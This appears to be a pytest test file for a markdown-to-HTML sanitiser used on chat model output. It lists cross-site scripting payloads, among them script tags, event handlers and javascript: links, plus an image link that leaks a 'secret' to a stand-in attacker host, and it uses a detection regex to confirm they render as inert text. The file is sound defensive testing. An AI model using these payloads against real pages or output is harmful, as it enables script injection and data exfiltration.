"""Markdown of models becomes HTML that shows and does nothing else."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from synth.chat import markdown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("**bold** and *thin* and ~~gone~~", "<strong>bold</strong>"),
        ("one\ntwo", "one<br>"),
        ("| a | b |\n|--|:-:|\n| 1 | 2 |", "<td>1</td>"),
        ("```py\nx < y\n```", "x &lt; y"),
        ("[here](https://example.org)", 'href="https://example.org"'),
        ("1. a\n2. b", "<ol>"),
    ],
)
def test_usual_markdown_is_shown(text, shown):
    assert shown in markdown.html(text)


ATTACKS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&colon;alert(1))", "[a](data:text/html,<script>alert(1)</script>)",
    "<svg/onload=alert(1)>", "<https://e.example>",
    "![x](https://evil.example/?q=secret)", "![x](https://evil.example/\"onerror=alert(1))",
    "<iframe src=//evil.example></iframe>", "[a](vbscript:x)", "<a href='javascript:x'>b</a>",
    "[x]: javascript:alert(1)\n[x]", "<style>*{display:none}</style>", "`<b onclick=x>`",
    "[a](https://e.example 'x\" onmouseover=\"alert(1)')",
]  # fmt: skip
DANGEROUS = re.compile(
    r"<(?!/?(?:a|blockquote|br|code|del|em|h[1-6]|hr|li|ol|p|pre|s|strong|table|tbody|td|th|thead|tr|ul)\b)"
    r"|<[^>]*\son\w+\s*=|(?:href|src)=\"(?!https?:|mailto:)|<[^>]*\ssrc=",
    re.IGNORECASE,
)


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_are_only_text(text):
    assert not DANGEROUS.search(markdown.html(text))


@given(
    st.lists(st.sampled_from([*ATTACKS, "**", "`", "\n", "|", "[", "](", ")", "<", ">", "&", '"', "'", "a"]))
)
def test_no_mixture_of_them_does_anything(pieces):
    assert not DANGEROUS.search(markdown.html("".join(pieces)))


def test_links_say_nothing_of_the_page_and_open_elsewhere():
    made = markdown.html("[a](https://e.example)")
    assert 'rel="noopener noreferrer nofollow"' in made and 'target="_blank"' in made


def test_a_very_long_text_stays_plain():
    assert markdown.html("*" * (markdown.MAX_CHARS + 1)).startswith("<pre ")
